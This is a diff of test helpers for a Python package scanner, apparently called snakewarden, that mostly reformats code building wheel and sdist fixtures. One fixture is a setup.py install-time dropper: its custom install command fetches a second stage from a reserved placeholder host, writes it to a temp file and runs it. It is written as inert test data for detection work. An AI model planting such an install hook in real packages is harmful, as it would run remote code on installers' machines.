@@ -28,9 +28,12 @@ def make_wheel(name: str, version: str, modules: dict[str, str] | None = None) -
     files = dict(modules)
     files[f"{info}/METADATA"] = metadata_text(name, version)
     files[f"{info}/WHEEL"] = (
-        "Wheel-Version: 1.0\nGenerator: snakewarden-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+        "Wheel-Version: 1.0\nGenerator: snakewarden-tests\n"
+        "Root-Is-Purelib: true\nTag: py3-none-any\n"
     )
-    record = [f"{path},{_record_hash(text.encode())},{len(text.encode())}" for path, text in files.items()]
+    record = [
+        f"{path},{_record_hash(text.encode())},{len(text.encode())}" for path, text in files.items()
+    ]
     record.append(f"{info}/RECORD,,")
     files[f"{info}/RECORD"] = "\n".join(record) + "\n"
     buf = io.BytesIO()
@@ -63,7 +66,7 @@ def make_sdist(name: str, version: str, setup_py: str) -> tuple[str, bytes]:
 #: An install-time dropper, written for these tests and inert: it fetches a "second stage" from a
 #: reserved name that never resolves (``.invalid``), writes it to a temporary file and runs it,
 #: all from a custom ``install`` command. Nothing here can reach a real host.
-DROPPER_SETUP = '''
+DROPPER_SETUP = """
 import base64, os, subprocess, sys, tempfile, urllib.request
 from setuptools import setup
 from setuptools.command.install import install
@@ -72,7 +75,8 @@ from setuptools.command.install import install
 class PostInstall(install):
     def run(self):
         try:
-            stage = urllib.request.urlopen("http://payload.example.invalid/stage2.py", timeout=1).read()
+            url = "http://payload.example.invalid/stage2.py"
+            stage = urllib.request.urlopen(url, timeout=1).read()
         except Exception:
             stage = base64.b64decode("cHJpbnQoJ2luZXJ0Jyk=")
         path = os.path.join(tempfile.gettempdir(), "stage2.py")
@@ -83,7 +87,15 @@ class PostInstall(install):
         install.run(self)
 
 
-setup(name="dropper-demo", version="0.1", packages=["dropper_demo"], cmdclass={"install": PostInstall})
-'''
+setup(
+    name="dropper-demo",
+    version="0.1",
+    packages=["dropper_demo"],
+    cmdclass={"install": PostInstall},
+)
+"""
 
-BENIGN_SETUP = 'from setuptools import setup\n\nsetup(name="plain-sdist", version="1.0", packages=["plain_sdist"])\n'
+BENIGN_SETUP = (
+    "from setuptools import setup\n\n"
+    'setup(name="plain-sdist", version="1.0", packages=["plain_sdist"])\n'
+)
